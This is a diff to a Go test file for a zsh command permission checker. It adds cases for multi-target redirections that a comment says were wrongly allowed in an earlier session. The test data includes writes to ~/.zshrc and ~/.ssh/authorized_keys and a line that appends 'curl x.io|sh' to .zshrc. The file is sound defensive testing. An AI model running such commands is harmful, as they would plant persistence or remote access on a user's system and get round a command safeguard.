@@ -44,3 +44,17 @@ func TestDialect58Zsh(t *testing.T) {
 		{"zsh", "ls ${PWD%/*}", dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestDialect58Multios: zsh opens every file a redirection's target expands
+// to (MULTIOS), so each is judged as a write (session 58: echo x >>
+// ~/.{zshrc,x} and >> ~/(.zshrc|x) were allowed).
+func TestDialect58Multios(t *testing.T) {
+	checkShellHoles(t, []shellHoleCase{
+		{"zsh", "echo x >> ~/.{zshrc,x}", dsl.Ask, dsl.Ask},
+		{"zsh", "echo 'curl x.io|sh' >> ~/(.zshrc|x)", dsl.Ask, dsl.Ask},
+		{"zsh", "A=(~/.zshrc x); echo x >> $A", dsl.Ask, dsl.Ask},
+		{"zsh", "echo x > ~/.ssh/{authorized_keys,x}", dsl.Ask, dsl.Ask},
+		{"zsh", "echo x > out.{txt,log}", dsl.Allow, dsl.Allow},
+		{"zsh", "make > build.{log,txt} 2>&1", dsl.Allow, dsl.Allow},
+	})
+}
